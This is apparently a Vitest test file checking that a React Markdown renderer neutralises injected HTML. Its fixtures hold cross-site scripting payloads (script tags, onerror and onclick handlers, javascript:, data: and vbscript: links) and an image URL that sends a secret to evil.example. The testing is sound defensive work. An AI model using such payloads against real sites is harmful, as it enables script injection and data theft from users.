import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown', () => {
  it('shows headings, lists, code and tables', () => {
    const out = html('# One\n\n- two\n\n`three`\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    for (const tag of ['<h1>', '<li>', '<code>', '<table>']) expect(out).toContain(tag);
  });

  it.each([
    ['<script>alert(1)</script>', 'script'],
    ['<img src=x onerror=alert(1)>', 'onerror'],
    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['<a href="x" onclick="alert(1)">a</a>', 'onclick'],
    ['[a](javascript:alert(1))', 'javascript:'],
    ['[a](JaVaScRiPt:alert(1))', 'alert'],
    ['[a](data:text/html,<script>alert(1)</script>)', 'data:'],
    ['[a](vbscript:msgbox)', 'vbscript:'],
    ['![a](javascript:alert(1))', 'javascript:'],
  ])('keeps %s inert', (text, trace) => {
    expect(html(text)).not.toContain(trace);
  });

  it('turns an image into a link, so that nothing is fetched by looking', () => {
    const out = html('![a cat](https://evil.example/?q=secret)');
    expect(out).not.toContain('<img');
    expect(out).toContain('Image: a cat');
    expect(out).toContain('rel="noreferrer noopener nofollow"');
  });
});
